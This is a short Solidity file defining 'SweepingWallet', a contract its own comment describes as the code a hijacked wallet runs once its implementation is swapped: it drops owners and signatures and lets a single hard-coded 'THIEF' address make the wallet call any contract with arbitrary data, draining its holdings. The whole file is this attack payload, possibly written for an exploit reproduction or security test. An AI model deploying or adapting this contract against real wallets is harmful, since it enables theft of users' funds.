// SPDX-License-Identifier: MIT
pragma solidity 0.8.34;

/// @notice What a wallet runs once its code was swapped: no owners and no signatures, one account that makes it call anything.
contract SweepingWallet {
    address private immutable THIEF;

    constructor(address thief) {
        THIEF = thief;
    }

    receive() external payable {}

    function sweep(address target, bytes calldata data) external {
        require(msg.sender == THIEF, "another thief");
        (bool ok, ) = target.call(data);
        require(ok, "sweep");
    }
}
